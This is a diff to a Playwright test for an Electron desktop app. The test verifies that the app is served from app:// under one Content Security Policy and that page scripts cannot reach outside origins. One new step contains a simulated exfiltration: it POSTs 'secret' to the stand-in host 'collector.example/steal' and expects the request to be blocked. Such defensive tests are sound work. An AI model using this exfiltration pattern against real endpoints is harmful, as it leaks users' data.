@@ -8,6 +8,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { _electron as electron, expect, test } from '@playwright/test';
+import { desktopContentSecurityPolicy, effectivePolicies } from '../../electron/csp.ts';
 
 const projectRoot = fileURLToPath(new URL('../..', import.meta.url));
 
@@ -61,13 +62,38 @@ test('the desktop shell serves the app over app:// and keeps it inside its origi
     const page = await app.firstWindow();
     await page.waitForLoadState('domcontentloaded');
 
-    await test.step('loads the renderer from app://creditdesk with the CSP header', async () => {
+    await test.step('loads the renderer from app://creditdesk under the desktop CSP header alone', async () => {
       expect(page.url()).toMatch(/^app:\/\/creditdesk\//);
-      const csp = await page.evaluate(async () =>
-        (await fetch('/index.html')).headers.get('content-security-policy'),
+      const served = await page.evaluate(async () => {
+        const response = await fetch('/index.html');
+        return { csp: response.headers.get('content-security-policy'), html: await response.text() };
+      });
+      expect(effectivePolicies(served.csp, served.html)).toEqual([desktopContentSecurityPolicy('')]);
+    });
+
+    await test.step('a page script cannot fetch an outside https origin or a local service', async () => {
+      const violations: string[] = [];
+      page.on('console', (message) => {
+        if (message.text().includes('Content Security Policy')) violations.push(message.text());
+      });
+      const refused = await page.evaluate(
+        async (urls) => {
+          const results: boolean[] = [];
+          for (const url of urls) {
+            try {
+              await fetch(url, { method: 'POST', body: 'secret' });
+              results.push(false);
+            } catch {
+              results.push(true);
+            }
+          }
+          return results;
+        },
+        ['https://collector.example/steal', foreignUrl],
       );
-      expect(csp).toContain("script-src 'self'");
-      expect(csp).toContain("object-src 'none'");
+      expect(refused).toEqual([true, true]);
+      expect(hits).toBe(0);
+      await expect.poll(() => violations.join('\n')).toContain('collector.example');
     });
 
     // contextBridge only works with context isolation, so a present bridge also proves it is on.
@@ -83,7 +109,7 @@ test('the desktop shell serves the app over app:// and keeps it inside its origi
         };
       });
       expect(globals).toEqual({
-        bridge: ['appInfo', 'openExternal', 'openFile', 'printToPdf', 'saveFile', 'secrets'],
+        bridge: ['allowPlatform', 'appInfo', 'openExternal', 'openFile', 'printToPdf', 'saveFile', 'secrets'],
         require: 'undefined',
         process: 'undefined',
         module: 'undefined',
